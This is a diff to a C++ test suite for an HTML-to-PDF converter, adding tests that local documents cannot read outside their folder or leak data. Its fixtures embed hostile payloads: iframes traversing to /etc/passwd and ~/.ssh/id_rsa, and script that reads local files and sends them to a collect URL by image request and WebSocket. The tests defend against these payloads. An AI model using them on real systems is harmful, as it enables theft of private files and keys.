@@ -86,6 +86,10 @@ private slots:
     void pageOutcomes_data();
     void pageOutcomes();
     void localDocumentReadsOnlyItsOwnFolder();
+    void documentSetKeepsItsLook();
+    void documentSetRootStopsAtItsLimits();
+    void localDocumentSendsNothing_data();
+    void localDocumentSendsNothing();
     void textEncodings_data();
     void textEncodings();
     void timeLimitReasonWithoutProgressNoise();
@@ -225,12 +229,14 @@ void TestRealConverter::pageOutcomes() {
              QStringList());
 }
 
-// A document added as a file may read its own folder and below, and nothing else; not even through
-// script, which could otherwise send what it read to any server.
+// A document added as a file may read its own folder and below, but nothing dot-named there and nothing
+// outside that its HTML does not name; not even through script, which could otherwise send what it read
+// to any server.
 void TestRealConverter::localDocumentReadsOnlyItsOwnFolder() {
     PageServer server("<html><body>ok</body></html>");
     QVERIFY(server.Listen());
     QVERIFY(WriteFile(m_work->filePath("private/marker.txt"), "PRIVATEMARKER"));
+    QVERIFY(WriteFile(m_work->filePath("site/.private/marker.txt"), "PRIVATEMARKER"));
     QImage image(kImageWidth, kImageHeight, QImage::Format_RGB32);
     image.fill(Qt::darkRed);
     QVERIFY(QDir().mkpath(m_work->filePath("site/images")));
@@ -240,7 +246,7 @@ void TestRealConverter::localDocumentReadsOnlyItsOwnFolder() {
     QVERIFY(WriteFile(
         m_work->filePath("site/page.html"),
         "<html><head><link rel=\"stylesheet\" href=\"style.css\"></head><body><h1>Own page</h1>"
-        "<img src=\"images/own.png\"><iframe src=\"../private/marker.txt\"></iframe>"
+        "<img src=\"images/own.png\"><iframe src=\".private/marker.txt\"></iframe>"
         "<p id=\"out\">none</p><script>"
         "var text = 'XHRFAILED';"
         "try { var x = new XMLHttpRequest(); x.open('GET', '../private/marker.txt', false); x.send();"
@@ -260,6 +266,83 @@ void TestRealConverter::localDocumentReadsOnlyItsOwnFolder() {
     QVERIFY2(text.contains("Own page STYLESHEETLOADED"), qPrintable(text));
     QVERIFY2(PdfImageSizes(pdf).contains(QStringLiteral("%1 x %2").arg(kImageWidth).arg(kImageHeight)),
              qPrintable(PdfImageSizes(pdf).join(", ")));
+    QVERIFY2(!text.contains("PRIVATEMARKER"), qPrintable(text));
+    QVERIFY2(!server.requests.join('\n').contains("PRIVATEMARKER"), qPrintable(server.requests.join('\n')));
+}
+
+// Generated documentation keeps its style sheets, fonts and scripts in a folder beside the pages'.
+void TestRealConverter::documentSetKeepsItsLook() {
+    const QString page = WriteDocumentSet(m_work->filePath("docs"));
+    QVERIFY(!page.isEmpty());
+
+    ConvertOnly(page);
+
+    QCOMPARE(m_queue->State(0), RowState::Converted);
+    const QString problem = DocumentSetLookProblem(PdfOf(page));
+    QVERIFY2(problem.isEmpty(), qPrintable(problem));
+    // The converter draws text in a loaded web font as outlines: in a fallback font the sample would be
+    // text.
+    QVERIFY2(!PdfText(PdfOf(page)).contains(kDocumentSetSample), qPrintable(PdfText(PdfOf(page))));
+}
+
+// A page naming files far outside its set, or in a dot-named folder, gets no wider root for it.
+void TestRealConverter::documentSetRootStopsAtItsLimits() {
+    QVERIFY(WriteFile(m_work->filePath(".ssh/id_rsa"), "DOTFOLDERMARK"));
+    QVERIFY(WriteFile(m_work->filePath("docs/secret.txt"), "SIBLINGMARK"));
+    QVERIFY(WriteFile(m_work->filePath("docs/library/page.html"),
+                      "<html><body><p>Limits page</p>"
+                      "<iframe src=\"../../../../../../../../../etc/passwd\"></iframe>"
+                      "<iframe src=\"../../.ssh/id_rsa\"></iframe>"
+                      "<iframe src=\"~/.ssh/id_rsa\"></iframe></body></html>"));
+    const QString source = m_work->filePath("docs/library/page.html");
+
+    ConvertOnly(source);
+
+    const QString text = PdfText(PdfOf(source));
+    QVERIFY2(text.contains("Limits page"), qPrintable(text));
+    for (const char* marker : {"root:", "DOTFOLDERMARK"})
+        QVERIFY2(!text.contains(marker), qPrintable(text));
+    QCOMPARE(m_queue->State(0), RowState::ConvertedWithWarnings);
+    QVERIFY2(m_queue->Reason(0).contains("/etc/passwd"), qPrintable(m_queue->Reason(0)));
+}
+
+// A local page's script could read what the page may read and send it out, as an image's address;
+// whatever it tries, the marker reaches neither the server nor the PDF, and its own parts still show.
+void TestRealConverter::localDocumentSendsNothing_data() {
+    QTest::addColumn<QString>("target"); // what the script reads, relative to the page's folder
+    QTest::newRow("a file the page may read") << "notes/marker.txt";
+    QTest::newRow("a dot-named file beside it") << ".keys/marker.txt";
+    QTest::newRow("a file outside its set") << "../private/marker.txt";
+}
+
+void TestRealConverter::localDocumentSendsNothing() {
+    QFETCH(QString, target);
+    PageServer server("<html><body>ok</body></html>");
+    QVERIFY(server.Listen());
+    QVERIFY(WriteFile(QDir::cleanPath(m_work->filePath("site/" + target)), "PRIVATEMARKER"));
+    QVERIFY(WriteFile(m_work->filePath("site/style.css"), "h1:after { content: ' STYLESHEETLOADED'; }"));
+    const QByteArray collect = server.Url("/collect?k=").toUtf8();
+    QVERIFY(WriteFile(m_work->filePath("site/page.html"),
+                      "<html><head><link rel=\"stylesheet\" href=\"style.css\"></head><body><h1>Own page</h1>"
+                      "<p id=\"out\">none</p><script>"
+                      "var text = 'XHRFAILED';"
+                      "try { var x = new XMLHttpRequest(); x.open('GET', '" +
+                          target.toUtf8() +
+                          "', false); x.send(); text = 'XHR:' + x.responseText; } catch (e) {}"
+                          "document.getElementById('out').textContent = text;"
+                          "new Image().src = '" +
+                          collect +
+                          "' + encodeURIComponent(text);"
+                          "try { new WebSocket('" +
+                          QByteArray(collect).replace("http:", "ws:") +
+                          "' + encodeURIComponent(text)); } catch (e) {}"
+                          "</script></body></html>"));
+
+    const QString source = m_work->filePath("site/page.html");
+    ConvertOnly(source);
+
+    const QString text = PdfText(PdfOf(source));
+    QVERIFY2(text.contains("Own page STYLESHEETLOADED"), qPrintable(text));
     QVERIFY2(!text.contains("PRIVATEMARKER"), qPrintable(text));
     QVERIFY2(!server.requests.join('\n').contains("PRIVATEMARKER"), qPrintable(server.requests.join('\n')));
 }
